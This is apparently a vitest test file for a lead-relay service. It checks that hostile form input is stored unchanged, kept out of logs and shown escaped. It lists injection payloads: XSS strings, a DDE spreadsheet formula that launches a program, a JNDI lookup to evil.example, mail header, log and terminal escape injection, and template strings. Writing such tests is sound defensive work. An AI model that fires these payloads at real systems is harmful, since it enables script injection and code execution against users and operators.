import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { runLeadsCommand } from '../../../src/relay/cli/leads-command.js';
import { readConfig } from '../../../src/relay/config/config.js';
import { crmKey, pageOrigin } from '../fixture.js';
import { leadBody, setUpBadInput } from './bad-input-fixture.js';

const DATA = mkdtempSync(join(tmpdir(), 'apro-text-'));
const fixture = setUpBadInput({ PROOF_OF_WORK: 'off', DATA });

/** Texts that could harm a later reader: a terminal, a spreadsheet, a mail program or a log processor. */
const texts: readonly (readonly [string, string])[] = [
  ['a script element', '<script>alert(1)</script>'],
  ['the end of an attribute', '"><img src=x onerror=alert(1)>'],
  ['a javascript: link', 'javascript:alert(1)'],
  ['the end of a title', '</title><script>alert(1)</script>'],
  ['the end of a textarea', '</textarea><svg onload=alert(1)>'],
  ['HTML entities', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['an HTML comment', '<!--><script>alert(1)--></script>'],
  ['a base element', '<base href=//evil.example>'],
  ['a spreadsheet formula that runs a program', '=cmd|"/c calc"!A1'],
  ['a spreadsheet formula with a plus', '+1+1'],
  ['a spreadsheet formula with a minus', '-1-1'],
  ['a spreadsheet formula with an at sign', '@SUM(A1:A9)'],
  ['a mail header', 'Ann\r\nBcc: all@example.com'],
  ['a log line', '\n{"level":"info","lead":"R-FORGED"}'],
  ['terminal escape sequences', '\u001b[31mred\u001b[0m\u001b]0;title\u0007'],
  ['a C1 control character', '\u009b31m'],
  ['a template expression', '{{7*7}}'],
  ['another template expression', `$${'{7*7}'}`],
  ['a JNDI lookup', `$${'{jndi:ldap://evil.example/a}'}`],
  ['a format string', '%s%n%x'],
  ['NUL', 'a\0b'],
  ['10,000 combining marks', `a${'\u0301'.repeat(10_000)}`],
  ['look-alike letters', 'аpple.com'],
  ['a word of 50,000 letters', 'x'.repeat(50_000)],
  ['joiners only', '\u200d\u200d\u200d'],
  ['a right-to-left override', 'Ann \u202egpj.exe\u202c'],
];

test.each(texts)('a text with %s is stored unchanged and shown escaped', async (_case, text) => {
  const before = fixture.logLines.length;
  const line = await fixture.sendLead(
    `${leadBody.replace(/&token=.*/, '')}&data[ext_request][104][value]=${encodeURIComponent(text)}`,
  );
  expect(line).toMatchObject({ status: 200, lead: expect.any(String) });
  // The log lines do not contain the text.
  for (const logLine of fixture.logLines.slice(before))
    expect(logLine).not.toContain(JSON.stringify(text).slice(1, -1));
  expect(fixture.logLines.slice(before).join('')).not.toContain('\n');

  // The operator's command prints the text on a single line, without control characters.
  const settings = { CRM_URL: fixture.crm.url, CRM_KEY: crmKey, DATA };
  let shown = '';
  await runLeadsCommand(readConfig(settings), [{ do: 'show', receipt: line.lead ?? '' }], (output) => {
    shown += output;
  });
  expect(JSON.parse(shown).data.ext_request['104'].value).toBe(text);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the test searches for control characters
  expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);

  // The hosted page shows the text again, because a required field is missing.
  const body = new URLSearchParams({ 'ext_request.104': text });
  const init = { method: 'POST', headers: { Origin: pageOrigin }, body };
  const html = await (await fetch(`${fixture.relay.url}/f/34`, init)).text();
  expect(html).toContain('name="ext_request.104"');
  expect(html.match(/<script/g)).toHaveLength(1);
  expect(html).not.toMatch(/<(img|svg|base)/);
});
